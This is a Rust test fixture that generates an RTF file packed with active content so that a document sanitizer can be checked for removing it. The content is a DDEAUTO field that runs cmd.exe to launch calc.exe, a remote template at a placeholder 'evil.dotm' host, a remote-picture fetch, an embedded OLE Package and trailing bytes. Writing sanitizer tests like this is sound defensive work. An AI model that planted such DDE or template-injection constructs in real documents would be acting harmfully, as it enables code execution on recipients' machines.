//! RTF documents written at runtime for sanitization tests.

/// Markers the [`active`] document carries in its active content, none of which may be in a
/// sanitized copy.
pub const ACTIVE_MARKERS: &[&str] = &[
    "secret_author",
    "payload_object_marker",
    "calc.exe",
    "http://fetch.invalid/pixel.png",
    "http://templates.invalid/evil.dotm",
    "TRAILING-PAYLOAD",
];

/// What sanitizing [`active`] with the default settings removes: `object_name` and count, in
/// the report's order.
pub const ACTIVE_REMOVALS: [(&str, u64); 5] = [
    ("Metadata", 1),
    ("Data outside the document", 1),
    ("Embedded OLE object", 1),
    ("DDE field", 1),
    ("External reference", 2),
];

/// An RTF document with text ("Hello RTF" and a kept link), document information, an embedded
/// OLE Package object, a DDEAUTO field, an INCLUDEPICTURE field fetching a remote picture, an
/// attached remote template, and bytes after its end.
pub fn active() -> Vec<u8> {
    let object_data: String = b"payload_object_marker"
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect();
    format!(
        "{{\\rtf1\\ansi\\deff0{{\\fonttbl{{\\f0 Times New Roman;}}}}\
         {{\\*\\template http://templates.invalid/evil.dotm}}\
         {{\\info{{\\author secret_author}}{{\\title Quarterly}}}}\n\
         \\pard Hello RTF\\par\n\
         {{\\object\\objemb\\objw100\\objh100{{\\*\\objclass Package}}{{\\*\\objdata 0105000002000000{object_data}}}}}\\par\n\
         {{\\field{{\\*\\fldinst DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc.exe\"}}{{\\fldrslt dde result}}}}\\par\n\
         {{\\field{{\\*\\fldinst INCLUDEPICTURE \"http://fetch.invalid/pixel.png\" \\\\d}}{{\\fldrslt picture}}}}\\par\n\
         {{\\field{{\\*\\fldinst HYPERLINK \"https://example.com/\"}}{{\\fldrslt a link}}}}\\par\n\
         }}TRAILING-PAYLOAD\n"
    )
    .into_bytes()
}
